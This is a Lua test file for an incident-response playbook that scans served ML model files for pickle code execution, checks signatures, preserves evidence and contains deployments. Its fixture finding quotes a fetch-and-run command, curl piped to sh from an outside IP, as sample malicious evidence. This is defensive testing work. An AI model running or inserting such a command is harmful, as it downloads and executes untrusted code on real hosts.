--- Tests of code-in-model against a made-up case; no disk, no model.

local fake = require("impound.fake")
local playbook = require("playbook")

local DIGEST = ("b"):rep(64)

local function run(setup)
  setup.deployment = setup.deployment or { logs = { "/var/log/prompts.jsonl" } }
  setup.collect = setup.collect
    or { ["model-files"] = { { name = "config.json" }, { name = "pytorch_model.bin", sha256 = DIGEST, size = 436 } } }
  setup.answers = setup.answers or { contain = "yes" }
  return fake.run(playbook, setup)
end

local function scanned(verdict, findings)
  return {
    verdict = verdict,
    complete = true,
    files = {
      { path = "config.json", sha256 = ("a"):rep(64), verdict = "no-code", read_to_end = true, findings = {} },
      { path = "pytorch_model.bin", sha256 = DIGEST, verdict = verdict, read_to_end = true, findings = findings },
    },
    problems = {},
  }
end

local CALL = {
  rule = "pickle-dangerous-call",
  severity = "critical",
  offset = 56,
  member = "archive/data.pkl",
  message = "would call posix.system",
  evidence = "posix.system('curl -s http://203.0.113.7/x | sh')",
}

local function note_with(case, text)
  for _, note in ipairs(case.notes) do
    if note.text:find(text, 1, true) then
      return note.text
    end
  end
  return nil
end

return {
  ["a call is confirmed, critical, shown with its arguments, and rests on the file"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL }) })
    t.equal(case.state, "done")
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].title, "Loading pytorch_model.bin runs code")
    t.equal(case.findings[1].verdict, "confirmed")
    t.equal(case.findings[1].severity, "critical")
    t.equal(case.findings[1].evidence, { "E004/2" })
    t.contains(case.findings[1].detail, "posix.system('curl -s http://203.0.113.7/x | sh')")
    t.truthy(case.contained)
  end,

  ["digest and addresses are named for the search elsewhere, each once"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL, CALL }) })
    t.contains(note_with(case, "SHA-256"), DIGEST)
    t.equal(
      note_with(case, "network logs"),
      "Look for these addresses in network logs: http://203.0.113.7/x, 203.0.113.7"
    )
  end,

  ["what nobody vouched for is likely, not confirmed"] = function(t)
    local unknown = { rule = "pickle-unknown-call", severity = "medium", offset = 2, evidence = "" }
    unknown.message = "calls x.y"
    local case = run({ scan = scanned("needs-review", { unknown }) })
    t.equal(case.findings[1].verdict, "likely")
    t.equal(case.findings[1].severity, "medium")
    t.contains(case.findings[1].detail, "calls x.y")
  end,

  ["a clean model is cleared, and that is recorded"] = function(t)
    local case = run({ scan = scanned("weights-only-ok", {}) })
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].verdict, "cleared")
    t.equal(note_with(case, "SHA-256"), nil)
  end,

  ["a clean model that could not be tied to what is served is cleared in its files only"] = function(t)
    local served = { tie = "untied", sentence = "No process maps it." }
    local case = run({ scan = scanned("weights-only-ok", {}), served = served })
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].verdict, "cleared (files only)")
    t.contains(case.findings[1].detail, "No process maps it.")
  end,

  ["what the process holds and the descriptor does not name is read, and what it runs is found there"] = function(t)
    local other = {
      path = "/srv/models/pytorch_model.bin",
      relation = "deleted",
      weights = true,
      other = true,
      device = "254:0",
      inode = 7,
      pids = { 4711 },
      held = "open",
      item = "E001/9",
      sha256 = DIGEST,
    }
    local case = run({
      served = { tie = "other_file", sentence = "Weights are held …", files = { other } },
      scan = {
        ["E001/9"] = scanned("malicious", { CALL }),
        ["E004"] = scanned("weights-only-ok", {}),
      },
    })
    t.equal(case.findings[1].title, "The process serves another file than the descriptor names")
    t.equal(case.findings[1].severity, "critical")
    t.equal(case.findings[1].evidence, { "E001/9" })
    t.contains(case.findings[1].detail, "deleted")
    t.contains(case.findings[1].detail, "inode 7")
    t.equal(case.findings[2].title, "Loading pytorch_model.bin runs code")
    t.equal(case.findings[2].evidence, { "E001/9" })
    t.equal(#case.findings, 2)
  end,

  ["a file that was not read to its end is a gap and clears nothing"] = function(t)
    local answer = scanned("weights-only-ok", {})
    answer.files[2].read_to_end = false
    answer.complete = false
    local case = run({ scan = answer })
    t.equal(#case.findings, 0)
    t.equal(case.gaps[1].subject, "pytorch_model.bin")
  end,

  ["a containment that was rolled back is a gap, and is tried again once the evidence is safe"] = function(t)
    local case = run({
      scan = scanned("weights-only-ok", {}),
      params = { active_harm = true },
      contain = { contained = false, reason = "probe other still answers" },
    })
    t.equal(case.contained, false)
    t.equal(case.gaps[1].subject, "containment")
    t.contains(case.gaps[1].reason, "probe other still answers")
    t.equal(#case.gaps, 2)
    t.equal(case.steps["stop-harm"].result, "incomplete")
    t.equal(case.steps.contain.result, "incomplete")
    t.equal(#case.findings, 1)
  end,

  ["a deployment without a method is not done with being taken out of service"] = function(t)
    local case = run({
      scan = scanned("weights-only-ok", {}),
      deployment = { containment_method = "", baseline_path = "/srv/baseline.json", logs = { "/var/log/a.jsonl" } },
    })
    t.equal(case.contained, false)
    t.equal(case.gaps[1].subject, "containment")
    t.equal(case.steps.contain.result, "incomplete")
  end,

  ["of many hostile files the first are named and the rest are counted"] = function(t)
    local answer = scanned("malicious", { CALL })
    for i = 1, 60 do
      answer.files[i] =
        { path = ("f%d.pt"):format(i), sha256 = DIGEST, verdict = "malicious", read_to_end = true, findings = { CALL } }
    end
    local case = run({ scan = answer })
    t.equal(#case.findings, 51)
    t.equal(case.findings[51].title, "10 more files need a look")
  end,

  ["a signature that does not fit is confirmed; none asked for, none checked"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}) }
    setup.signature = {
      ok = false,
      reason = "1 changed",
      verdict = "failed",
      mismatch = { "Hash mismatch for 'pytorch_model.bin'" },
      differences = { { status = "changed", path = "pytorch_model.bin" } },
    }
    setup.params = { signature = "/srv/model.sig", key = "/srv/key.pem" }
    local case = run(setup)
    t.equal(case.findings[1].title, "The model is not what its signature says")
    t.contains(case.findings[1].detail, "Hash mismatch")
    t.equal(case.findings[1].evidence, { "E004/2" })
    local without = run({ scan = scanned("weights-only-ok", {}) })
    t.equal(#without.findings, 1)
  end,

  ["a comparison without a key clears nothing"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}), params = { signature = "/srv/model.sig" } }
    setup.signature = { ok = true, reason = "nothing differs", verdict = "findings", not_verified = { "signature" } }
    local case = run(setup)
    t.equal(case.findings[1].verdict, "likely")
    t.contains(case.findings[1].detail, "signature")
  end,

  ["what vanishes first is preserved first, all of it before containment"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL }) })
    local order = {}
    for _, call in ipairs(case.calls) do
      if call.call == "collect" or call.call == "contain" then
        order[#order + 1] = call.collector or call.call
      end
    end
    t.equal(order, { "process", "host", "prompt-log", "model-files", "contain" })
  end,

  ["a deployment without a containment method stays in service, and that is a gap"] = function(t)
    local case = run({
      scan = scanned("malicious", { CALL }),
      deployment = { logs = {}, containment_method = "" },
    })
    t.equal(case.contained, false)
    t.equal(case.gaps[2].subject, "containment")
    t.equal(case.worst_verdict, "confirmed")
  end,
}
